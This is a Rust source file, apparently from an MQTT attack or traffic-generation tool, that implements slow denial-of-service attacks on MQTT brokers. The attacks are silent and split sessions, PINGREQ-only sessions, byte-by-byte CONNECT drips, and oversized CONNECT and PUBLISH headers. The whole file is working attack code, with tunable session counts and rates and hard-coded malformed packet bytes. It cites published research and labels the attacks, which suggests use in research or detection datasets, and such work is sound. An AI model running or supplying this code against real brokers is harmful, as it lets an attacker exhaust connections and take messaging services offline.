//! Slow denial of service: sessions or half-sent packets that cost the attacker nothing and fill the broker.
//! `SlowITe` (silent, split: Vaccari 2020, Sensors 20:2932), `SlowTT` (ping: Vaccari 2020, Information 11:452),
//! and a dripping CONNECT.

use std::io::{self, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use clap::Args;
use serde::{Deserialize, Serialize};

use super::manner::Naming;
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::packet::{PINGREQ, Version};
use crate::mqtt::session::{ConnectError, Session};
use crate::random::Random;
use crate::stop::{Pacer, Stop};

/// What the sessions do once they are there.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Slowness {
    /// A huge keep alive, then silence.
    Silent,
    /// The same, with each CONNECT in two segments and no wait for the CONNACK.
    Split,
    /// PINGREQ and nothing else.
    Ping,
    /// A CONNECT sent byte by byte, never finished.
    Drip,
    /// The first bytes of a CONNECT that claims to be huge, and more of it now and then.
    Header,
    /// A session, then a huge PUBLISH that comes byte by byte.
    Publish,
}

/// Options of the slow denial of service.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct SlowDos {
    /// What the sessions do
    #[arg(long, value_enum, default_value = "silent")]
    pub slowness: Slowness,
    /// Sessions to open
    #[arg(long, default_value_t = 150)]
    pub sessions: u32,
    /// Sessions opened a second; 0 is as fast as possible
    #[arg(long, default_value_t = 40.0)]
    pub rate: f64,
    /// Keep alive in seconds
    #[arg(long, default_value_t = 65_535)]
    pub keep_alive: u16,
    /// Seconds between two PINGREQ of a session, or two bytes of a drip
    #[arg(long, default_value_t = 2.0)]
    pub every: f64,
    /// Bytes of CONNECT in the first of two segments (split); 0: all but two
    #[arg(long, default_value_t = 0)]
    pub cut: u16,
    /// Client identifiers
    #[arg(long, value_enum, default_value = "random")]
    pub naming: Naming,
    /// Protocol version
    #[arg(long, value_enum, default_value = "3.1.1")]
    pub protocol: Version,
    /// Hold the sessions until so many seconds have passed
    #[arg(long, default_value_t = 8)]
    pub secs: u32,
}

impl Default for SlowDos {
    fn default() -> Self {
        defaults()
    }
}

/// A connection held open, with the bytes of its CONNECT that are still unsent.
struct Held {
    stream: TcpStream,
    unsent: Vec<u8>,
    due: Instant,
}

/// The beginning of a CONNECT of version 3.1.1 that says it is 1,048,576 bytes long, with a client identifier of 65,535.
const HUGE_CONNECT: &[u8] = b"\x10\x80\x80\x40\x00\x04MQTT\x04\x02\x00\x3c\xff\xff";

/// The beginning of a PUBLISH that says it is 2,097,151 bytes long.
const HUGE_PUBLISH: &[u8] = b"\x30\xff\xff\x7f\x00\x08load/big";

/// Most connections that one attack holds.
const MOST_SESSIONS: u32 = 4000;

impl Deed for SlowDos {
    fn label(&self) -> (&'static str, &'static str) {
        (
            "mqtt_slow_dos",
            match self.slowness {
                Slowness::Silent | Slowness::Split => "A3",
                Slowness::Ping => "A4",
                Slowness::Drip | Slowness::Header | Slowness::Publish => "A5",
            },
        )
    }

    fn secs(&self) -> u32 {
        self.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        let mut random = place.random(0);
        let mut pacer = Pacer::new(self.rate);
        let mut held = Vec::new();
        let most = u64::from(self.sessions.min(MOST_SESSIONS));
        let mut opening = true;
        // One thread does it all: it opens, and serves what is due while it waits for its next turn.
        while !stop.is_set() {
            if opening {
                opening = pacer.turn(stop) && meter.take(most);
            } else if !stop.sleep(Duration::from_millis(20)) {
                break;
            }
            if opening {
                held.extend(meter.connected(self.open(place, &mut random)));
            }
            self.serve(&mut held, meter);
        }
    }
}

impl SlowDos {
    fn open(&self, place: &Place, random: &mut Random) -> Result<Held, ConnectError> {
        let client_id = self.naming.name(self.protocol, random.seed() % 100_000, random);
        let connect = place.connect(self.protocol, &client_id, self.keep_alive);
        let due = Instant::now() + self.pause();
        Ok(match self.slowness {
            Slowness::Silent | Slowness::Ping => {
                let stream = Session::connect(&place.dial(), &connect)?.into_stream();
                // From here on only bytes are written; a full send buffer must not hold up the others.
                stream.set_nonblocking(true)?;
                Held { stream, unsent: Vec::new(), due }
            }
            Slowness::Split => {
                let mut stream = place.dial().open()?;
                let bytes = connect.encode();
                let last = bytes.len().saturating_sub(2);
                let cut = if self.cut == 0 { last } else { usize::from(self.cut).min(last) };
                let (head, tail) = bytes.split_at(cut);
                stream.write_all(head)?;
                stream.write_all(tail)?;
                Held { stream, unsent: Vec::new(), due }
            }
            Slowness::Header => {
                let mut stream = place.dial().open()?;
                stream.write_all(HUGE_CONNECT)?;
                let mut unsent = random.text(400).into_bytes();
                unsent.reverse();
                Held { stream, unsent, due }
            }
            Slowness::Publish => {
                let mut stream = Session::connect(&place.dial(), &connect)?.into_stream();
                stream.set_nonblocking(true)?;
                stream.write_all(HUGE_PUBLISH)?;
                Held { stream, unsent: random.text(400).into_bytes(), due }
            }
            Slowness::Drip => {
                let mut stream = place.dial().open()?;
                let mut unsent = connect.encode();
                // The last byte is never sent.
                unsent.pop();
                stream.write_all(&unsent[..2])?;
                unsent.drain(..2);
                unsent.reverse();
                Held { stream, unsent, due }
            }
        })
    }

    fn serve(&self, held: &mut Vec<Held>, meter: &Meter) {
        if matches!(self.slowness, Slowness::Silent | Slowness::Split) {
            return;
        }
        let now = Instant::now();
        held.retain_mut(|connection| {
            if connection.due > now {
                return true;
            }
            connection.due = now + self.pause();
            let kept = self.nudge(connection).is_ok();
            if !kept {
                Meter::count(&meter.failed);
            }
            kept
        });
    }

    fn nudge(&self, connection: &mut Held) -> io::Result<()> {
        if self.slowness == Slowness::Ping {
            return connection.stream.write_all(&PINGREQ);
        }
        match connection.unsent.pop() {
            Some(byte) => connection.stream.write_all(&[byte]),
            None => Ok(()),
        }
    }

    fn pause(&self) -> Duration {
        Duration::from_secs_f64(self.every.clamp(0.05, 600.0))
    }
}
